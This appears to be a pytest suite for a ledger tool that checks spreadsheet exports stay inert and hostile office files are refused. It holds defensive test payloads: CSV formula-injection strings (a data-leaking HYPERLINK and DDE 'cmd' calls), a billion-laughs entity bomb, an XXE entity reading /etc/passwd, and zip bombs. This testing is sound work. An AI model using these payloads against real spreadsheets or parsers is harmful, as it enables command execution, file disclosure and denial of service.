"""Spreadsheets, CSV and office files stay inert and bounded (issue 12, points 4 and 5).

Every cell written from record text is a text cell, never a formula (xlsx) and never
starts a formula (csv); `ledger --apply` refuses what it cannot read faithfully
(formulas, error values, merged cells, line breaks in one-line fields); hostile
.xlsx and .docx files (zip bombs, DTDs and entities, malformed XML, huge sheets)
end in exit 1 naming the file, never a traceback or a hang.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import random
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from rectifykit.cli import app
from rectifykit.reports import ledger, ledger_read

REPO = Path(__file__).resolve().parents[1]
AS_OF = "2024-12-25"
HOSTILE = {
    "leader": '=HYPERLINK("http://example.org/?leak="&A1,"click")',
    "department": "+cmd|' /C calc'!A0",
    "person": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "-2+3+cmd|' /C calc'!A0",
    "evidence": "=1+1",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
runner = CliRunner()


def run(*args: str):
    return runner.invoke(app, ["--lang", "en", *args], catch_exceptions=False)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    shutil.copytree(REPO / "data", tmp_path / "data")
    return tmp_path


def plant(root: Path, key: str = "community-correction#2") -> None:
    """Owners, notes and evidence that a spreadsheet would take for formulas."""
    args = [f"--{name}={value}" for name, value in HOSTILE.items()]
    result = run("set", key, "--root", str(root), "--as-of", AS_OF, *args)
    assert result.exit_code == 0, result.output


def export(root: Path) -> Path:
    out = root / "ledger.xlsx"
    result = run("ledger", "--root", str(root), "-o", str(out), "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    return out


def apply(root: Path, workbook: Path):
    return run("ledger", "--root", str(root), "--apply", str(workbook), "--as-of", AS_OF, "--yes")


def records(root: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted((root / "data" / "findings").glob("*.yaml"))}


def assert_inert(path: Path, planted: list[str]) -> None:
    """No formula anywhere in the workbook's XML, and each planted text is in a text cell, as written."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >/]", z.read(name)), name
    wb = openpyxl.load_workbook(path)
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    found[cell.value] = cell
    for text in planted:
        assert any(text in value for value in found), (text, sorted(found))


def column(header: str) -> int:
    return ledger.HEADERS.index(header) + 1


def row_of(path: Path, key: str) -> int:
    ws = openpyxl.load_workbook(path)[ledger.SHEET]
    return next(r for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=column(ledger.KEY)).value == key)


# --- point 4: what the tool writes is inert ------------------------------------------------------


def test_record_text_in_the_ledger_is_text_never_a_formula(project: Path) -> None:
    plant(project)
    path = export(project)
    assert_inert(path, list(HOSTILE.values()))
    ws = openpyxl.load_workbook(path)[ledger.SHEET]
    cell = ws.cell(row=row_of(path, "community-correction#2"), column=column("责任领导"))
    assert cell.value == HOSTILE["leader"] and cell.data_type == "s"
    assert cell.quotePrefix  # Excel keeps it text even when someone edits the cell


def test_record_text_in_the_rollup_workbook_is_text_never_a_formula(project: Path) -> None:
    plant(project, "community-correction#1")  # a closed item: it can be drawn for the sample
    out = project / "rollup.xlsx"
    result = run("rollup", str(project), "--format", "xlsx", "-o", str(out), "--sample", "30", "--seed", "1",
                 "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    assert_inert(out, [HOSTILE["evidence"]])


def test_status_csv_cells_never_start_a_formula(project: Path) -> None:
    plant(project)
    result = run("status", "--root", str(project), "--format", "csv", "--all", "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    owner = next(c for c in cells if "HYPERLINK" in c)
    assert owner.startswith("'=HYPERLINK(")  # OWASP: a single quote before the formula character


def test_text_typed_like_a_formula_stays_text_after_a_round_trip(project: Path) -> None:
    path = export(project)
    wb = openpyxl.load_workbook(path)
    ws = wb[ledger.SHEET]
    cell = ws.cell(row=row_of(path, "community-correction#2"), column=column("责任人"))
    cell.value = '=HYPERLINK("http://example.org","x")'
    cell.data_type = "s"  # typed as text ('=HYPERLINK… in Excel)
    wb.save(path)
    assert apply(project, path).exit_code == 0
    assert 'person: =HYPERLINK("http://example.org","x")' in records(project)["community-correction.yaml"].decode()
    assert_inert(export(project), ['=HYPERLINK("http://example.org","x")'])


# --- point 4: ledger --apply refuses what it cannot read faithfully ------------------------------


def _edited(project: Path, key: str, header: str, value: object, *, merge: str | None = None) -> tuple[Path, int]:
    path = export(project)
    wb = openpyxl.load_workbook(path)
    ws = wb[ledger.SHEET]
    row = row_of(path, key)
    ws.cell(row=row, column=column(header)).value = value
    if merge:
        ws.merge_cells(merge.format(row=row, next=row + 1))
    wb.save(path)
    return path, row


@pytest.mark.parametrize(
    ("header", "value", "says"),
    [
        ("整改时限", "=DATE(2030,1,1)", "formula"),  # saved by a script: no cached value
        ("责任科室", "=A1", "formula"),
        ("完成时间", "#REF!", "error"),
        ("责任人", "张三\n李四", "line break"),
        ("责任领导", "王五\r\n赵六", "line break"),
    ],
)
def test_a_cell_that_cannot_be_read_as_typed_is_refused_and_nothing_is_deleted(
        project: Path, header: str, value: str, says: str) -> None:
    original = records(project)
    path, row = _edited(project, "community-correction#2", header, value)
    result = apply(project, path)
    assert result.exit_code == 1, result.output
    letter = openpyxl.utils.get_column_letter(column(header))
    assert f"{ledger.SHEET} row {row}, column {letter} ({header}): " in result.output
    assert says in result.output
    assert "nothing was written" in result.output
    assert records(project) == original


def test_a_formula_with_a_cached_value_is_refused_too(project: Path) -> None:
    original = records(project)
    path, row = _edited(project, "community-correction#2", "整改时限", "=DATE(2030,1,1)")
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    parts[sheet], n = re.subn(rb"<f>DATE\(2030,1,1\)</f><v>\s*</v>|<f>DATE\(2030,1,1\)</f><v\s*/>",
                              b"<f>DATE(2030,1,1)</f><v>47484</v>", parts[sheet])
    assert n == 1  # what Excel saves: the formula and its value
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    result = apply(project, path)
    assert result.exit_code == 1 and "formula" in result.output
    assert f"{ledger.SHEET} row {row}, column I (整改时限): " in result.output
    assert records(project) == original


def test_merged_cells_in_an_editable_column_are_refused(project: Path) -> None:
    original = records(project)
    letter = openpyxl.utils.get_column_letter(column("责任科室"))
    path, row = _edited(project, "community-correction#2", "责任科室", "局办公室",
                        merge=f"{letter}{{row}}:{letter}{{next}}")
    result = apply(project, path)
    assert result.exit_code == 1, result.output
    assert f"{letter}{row}:{letter}{row + 1}" in result.output and "merged" in result.output
    assert records(project) == original


# --- point 5: hostile files ----------------------------------------------------------------------


def _rezip(source: Path, target: Path, replace: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(source) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    parts.update(replace)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return target


LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
                     for n in range(1, 10))
          + b"]>")
EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _hostile_sheet(kind: str, good: bytes) -> bytes:
    body = good.split(b"?>", 1)[1] if good.startswith(b"<?xml") else good
    if kind == "laughs":
        return LAUGHS + body.replace(b"<sheetData>", b"<sheetData><row r=\"200\"><c r=\"A200\" t=\"inlineStr\"><is><t>"
                                     b"&lol9;</t></is></c></row>", 1)
    if kind == "external":
        return EXTERNAL + body.replace(b"<sheetData>", b"<sheetData><row r=\"200\"><c r=\"A200\" t=\"inlineStr\"><is>"
                                       b"<t>&xxe;</t></is></c></row>", 1)
    if kind == "utf16-doctype":
        return ('<?xml version="1.0" encoding="UTF-16"?>' + LAUGHS.decode().split("?>", 1)[1]).encode("utf-16")
    return body[: len(body) // 2]  # malformed: cut in the middle


@pytest.mark.parametrize("kind", ["laughs", "external", "utf16-doctype", "malformed"])
def test_a_hostile_sheet_is_refused_naming_the_file(project: Path, kind: str) -> None:
    original = records(project)
    path = export(project)
    with zipfile.ZipFile(path) as z:
        good = z.read("xl/worksheets/sheet1.xml")
    bad = _rezip(path, project / "bad.xlsx", {"xl/worksheets/sheet1.xml": _hostile_sheet(kind, good)})
    result = apply(project, bad)
    assert result.exit_code == 1, result.output
    assert "bad.xlsx" in result.output
    assert "root:" not in result.output  # /etc/passwd was not read into the message
    assert records(project) == original


def test_a_file_that_is_not_a_zip_archive_is_refused_naming_the_file(project: Path) -> None:
    bogus = project / "bogus.xlsx"
    bogus.write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    result = apply(project, bogus)
    assert result.exit_code == 1, result.output
    assert "bogus.xlsx" in result.output


def test_a_zip_bomb_is_refused_before_it_is_unpacked(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("rectifykit.fsio.archive.MAX_TOTAL", 4 * 1024 * 1024)
    path = export(project)
    bomb = _rezip(path, project / "bomb.xlsx", {"xl/media/padding.bin": random.Random(0).randbytes(5 * 1024 * 1024)})
    result = apply(project, bomb)
    assert result.exit_code == 1, result.output
    assert "bomb.xlsx" in result.output and "MiB" in result.output


def test_an_entry_compressed_beyond_any_real_ratio_is_refused(project: Path) -> None:
    path = export(project)
    bomb = _rezip(path, project / "bomb.xlsx", {"xl/media/padding.bin": b"\0" * (3 * 1024 * 1024)})
    result = apply(project, bomb)
    assert result.exit_code == 1, result.output
    assert "bomb.xlsx" in result.output and "compressed" in result.output


def test_too_many_entries_are_refused(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("rectifykit.fsio.archive.MAX_ENTRIES", 30)
    path = export(project)
    crowd = _rezip(path, project / "crowd.xlsx", {f"xl/media/{n}.bin": b"x" for n in range(40)})
    result = apply(project, crowd)
    assert result.exit_code == 1, result.output
    assert "crowd.xlsx" in result.output and "30" in result.output


def test_a_sheet_with_more_rows_than_the_limit_is_refused(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ledger_read, "MAX_ROWS", 100)
    path = export(project)
    wb = openpyxl.load_workbook(path)
    wb[ledger.SHEET].cell(row=150, column=1).value = "x"
    wb.save(path)
    result = apply(project, path)
    assert result.exit_code == 1, result.output
    assert "100 rows" in result.output and "ledger.xlsx" in result.output


def test_the_workbook_is_read_in_streaming_mode(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    seen = {}
    real = ledger_read.load_workbook

    def spy(*args, **kwargs):
        seen.update(kwargs)
        return real(*args, **kwargs)

    monkeypatch.setattr(ledger_read, "load_workbook", spy)
    edited, _row = _edited(project, "community-correction#2", "整改时限", dt.datetime(2025, 3, 31))
    assert apply(project, edited).exit_code == 0
    assert seen.get("read_only") is True


# --- point 5: hostile .docx to import -------------------------------------------------------------


def _docx(tmp_path: Path, replace: dict[str, bytes] | None = None, *, name: str = "notice.docx") -> Path:
    docx = pytest.importorskip("docx")
    document = docx.Document()
    document.add_paragraph("某区委第一巡察组关于巡察某局党组的反馈意见")
    plain = tmp_path / "plain.docx"
    document.save(plain)
    return _rezip(plain, tmp_path / name, replace or {})


def _import(notice: Path, tmp_path: Path):
    return run("import", str(notice), "--into", str(tmp_path / "out"))


@pytest.mark.parametrize("kind", ["laughs", "external", "malformed", "bad-numbering"])
def test_a_hostile_docx_is_refused_naming_the_file(tmp_path: Path, kind: str) -> None:
    pytest.importorskip("docx")
    with zipfile.ZipFile(_docx(tmp_path)) as z:
        good = z.read("word/document.xml")
    body = good.split(b"?>", 1)[1]
    numbering = b"<w:p><w:pPr><w:numPr><w:ilvl w:val='x'/><w:numId w:val='1'/></w:numPr></w:pPr></w:p>"
    text = {"laughs": LAUGHS + body.replace(b"<w:body>", b"<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>", 1),
            "external": EXTERNAL + body.replace(b"<w:body>", b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>", 1),
            "malformed": good[: len(good) // 2],
            "bad-numbering": good.replace(b"<w:body>", b"<w:body>" + numbering, 1)}[kind]
    notice = _docx(tmp_path, {"word/document.xml": text}, name="bad.docx")
    result = _import(notice, tmp_path)
    assert result.exit_code == 1, result.output
    assert "bad.docx" in result.output
    assert "root:" not in result.output
    assert not (tmp_path / "out" / "data").exists()


def test_a_docx_zip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    notice = _docx(tmp_path, {"word/media/image1.png": b"\0" * (3 * 1024 * 1024)}, name="bomb.docx")
    result = _import(notice, tmp_path)
    assert result.exit_code == 1, result.output
    assert "bomb.docx" in result.output and "compressed" in result.output


def test_openpyxl_parses_with_entity_expansion_off() -> None:
    """The second line of defence after archive.check: openpyxl uses defusedxml when it is installed."""
    assert openpyxl.DEFUSEDXML is True


def test_a_fifo_given_as_the_workbook_is_refused_without_opening_it(project: Path) -> None:
    fifo = project / "ledger.xlsx"
    os.mkfifo(fifo)
    result = apply(project, fifo)  # would block forever if it were opened
    assert result.exit_code == 2, result.output  # a file argument that is no file: bad usage, as for import
    assert "ledger.xlsx" in result.output and "regular file" in result.output


def test_a_docx_that_unpacks_beyond_the_limit_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("rectifykit.importer.reading.DOCX_UNPACKED", 2 * 1024 * 1024)
    notice = _docx(tmp_path, {"word/media/image1.png": random.Random(0).randbytes(3 * 1024 * 1024)}, name="big.docx")
    result = _import(notice, tmp_path)
    assert result.exit_code == 1, result.output
    assert "big.docx" in result.output and "2 MiB" in result.output
